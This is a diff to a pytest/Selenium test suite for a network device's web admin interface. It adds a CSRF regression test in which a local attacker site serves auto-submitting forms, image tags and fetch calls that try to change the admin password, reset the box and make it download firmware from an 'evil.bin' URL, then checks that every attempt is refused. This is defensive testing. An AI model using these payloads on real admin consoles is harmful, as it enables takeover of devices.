@@ -41,7 +41,7 @@ def browser() -> Iterator[object]:
         "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--no-first-run", "--disable-extensions", f"--user-data-dir={profile}",
-        "--window-size=1200,900",
+        "--window-size=1200,900", "--ignore-certificate-errors",
     ):  # fmt: skip
         options.add_argument(arg)
     driver = webdriver.Chrome(service=Service(str(CHROMEDRIVER)), options=options)
@@ -98,7 +98,8 @@ def test_browser_sets_a_static_address_writes_and_resets(
     d.find_element(By.ID, "apply").click()
     wait_text("main", "needs reset", By.TAG_NAME)
     d.find_element(By.ID, "write").click()
-    wait_text("main", "config written to flash (3 objects)", By.TAG_NAME)
+    # ETH0, the route, DHCP0, and ETH1's factory setting (192.168.1.1/24)
+    wait_text("main", "config written to flash (4 objects)", By.TAG_NAME)
 
     before = box.runtime.box
     d.get(f"{box.http_url}/reset")  # same origin: the browser reuses the login
@@ -110,6 +111,7 @@ def test_browser_sets_a_static_address_writes_and_resets(
     assert box.runtime.box is not before, "the box did not reset"
     assert box.console_line("config show") == (
         "config change IP0 ETH0 /addr 192.168.0.10 /mask 255.255.255.0\n"
+        "config change IP0 ETH1 /addr 192.168.1.1 /mask 255.255.255.0\n"
         "config change IP0 RT0 /gateway 192.168.0.1\n"
         "config change DHCP0 /mode off"
     )
@@ -136,3 +138,136 @@ def test_browser_sets_a_static_address_writes_and_resets(
     assert "B (running)" in row and "16r1sr2" in row and "1601002" in row, row
     assert "16r1sr1" in d.find_element(By.ID, "slot-A").text
     d.save_screenshot(str(ARTIFACTS / "general-info-new-firmware.png"))
+
+
+# -- CSRF: another site's page, opened by the logged-in admin, tries every form ----------
+
+
+class _Attacker:
+    """A web site on 127.0.0.1 or 127.0.0.2 serving the attack pages; it logs every
+    request it gets (the box fetching /evil.bin would show here)."""
+
+    def __init__(self, host: str, pages: dict[str, str]) -> None:
+        import http.server
+        import threading
+
+        self.pages = pages
+        self.requests: list[str] = []
+        attacker = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - http.server's name
+                attacker.requests.append(self.path)
+                body = attacker.pages.get(self.path.lstrip("/"), "").encode()
+                self.send_response(200 if body else 404)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer((host, 0), Handler)
+        self.url = f"http://{host}:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def attack_pages(target: str, attacker: str) -> dict[str, str]:
+    """Each CSRF form of issue 25 against one base URL of the box."""
+    from html import escape
+
+    def form(action: str, fields: dict[str, str]) -> str:
+        inputs = "".join(f'<input name="{k}" value="{v}">' for k, v in fields.items())
+        return (f'<form method="post" action="{target}{action}">{inputs}</form>'
+                "<script>document.forms[0].submit()</script>")  # fmt: skip
+
+    ip = {"action": "apply", "dhcp": "off", "dhcp_if": "ETH0", "eth0_addr": "10.6.6.6",
+          "eth0_mask": "255.0.0.0"}  # fmt: skip
+    pwd = "/!config%20change%20ADMIN0%20/pwd%20hacked"
+    return {
+        "img.html": "".join(
+            f'<img src="{target}{p}">'
+            for p in (pwd, "/!config%20activate", "/!config%20write", "/!reset")
+        ),
+        "navigate.html": (
+            '<meta name="referrer" content="no-referrer"><script>location.href='
+            f'"{target}/!mod%20cmd%20UP0%20prot%20{attacker}/evil.bin%20ser%2042"</script>'
+        ),
+        "fetch.html": (
+            "<script>for (const u of ["
+            f'"{target}{pwd}", "{target}/!config%20change%20SYS0%20/name%20fetched"])'
+            ' fetch(u, {mode: "no-cors", credentials: "include"});'
+            f'fetch("{target}/ipva.bin", {{method: "POST", mode: "no-cors",'
+            ' credentials: "include", body: "x"});</script>'
+        ),
+        "form-ip.html": form("/configuration/ip", ip),
+        "form-admin.html": form(
+            "/administration/admin", {"old": "ipva", "new": "Hacked-1", "again": "Hacked-1"}
+        ),
+        "form-reset.html": form("/reset", {}),
+        "sandboxed.html": (  # Origin: null
+            '<iframe sandbox="allow-forms allow-scripts" srcdoc="'
+            + escape(form("/configuration/ip", ip))
+            + '"></iframe>'
+        ),
+    }
+
+
+@pytest.mark.timeout(400)
+def test_another_sites_pages_cannot_drive_the_logged_in_admins_box(
+    browser, box: HostedHttpBox
+) -> None:
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    d = browser
+    http_host = box.http_url.split("://")[1]
+    https_host = box.https_url.split("://")[1]
+    # the admin logs in over HTTP and HTTPS; later requests reuse the login by themselves
+    d.get(f"http://{USER}:{PASSWORD}@{http_host}/configuration/ip")
+    d.get(f"https://{USER}:{PASSWORD}@{https_host}/configuration/ip")
+    for base in (box.http_url, box.https_url):
+        d.get(f"{base}/administration/admin")
+        assert d.find_element(By.TAG_NAME, "h1").text == "Administration / Admin", base
+
+    before = box.runtime.box
+    cross = _Attacker("127.0.0.2", {})  # another name (cross-site)
+    same = _Attacker("127.0.0.1", {})  # another port of the box's own name (same-site)
+    try:
+        for site in (cross, same):
+            for target in (box.http_url, box.https_url):
+                site.pages = attack_pages(target, site.url)
+                for page in site.pages:
+                    print("attack", site.url, target, page, flush=True)
+                    d.get(f"{site.url}/{page}")
+                    time.sleep(1.0)  # the page's requests go out
+    finally:
+        cross.close()
+        same.close()
+    assert box.runtime.box is before, "an attack reset the box"
+    assert box.console_line("config show") == ""  # nothing changed, nothing even running
+    assert box.console_line("config show saved") == ""
+    assert not any("evil.bin" in p for p in cross.requests + same.requests)
+    refused = [ln for ln in box.console.text().splitlines() if "refused" in ln]
+    assert len(refused) >= 8, "the attacks did not reach the box with the admin's login"
+
+    # the admin's own pages still work, over HTTP and HTTPS
+    d.get(f"{box.http_url}/configuration/ip")
+    d.find_element(By.ID, "eth0_addr").clear()
+    d.find_element(By.ID, "eth0_addr").send_keys("192.168.7.10")
+    d.find_element(By.ID, "eth0_mask").clear()
+    d.find_element(By.ID, "eth0_mask").send_keys("255.255.255.0")
+    d.find_element(By.ID, "apply").click()
+    WebDriverWait(d, 30).until(lambda drv: "needs reset" in drv.page_source)
+    assert "192.168.7.10" in box.console_line("config show")
+    d.get(f"{box.https_url}/administration/admin")
+    for field, value in (("old", PASSWORD), ("new", "S3cure-pw"), ("again", "S3cure-pw")):
+        d.find_element(By.ID, field).send_keys(value)
+    d.find_element(By.ID, "change").click()
+    WebDriverWait(d, 30).until(lambda drv: 'id="done"' in drv.page_source)
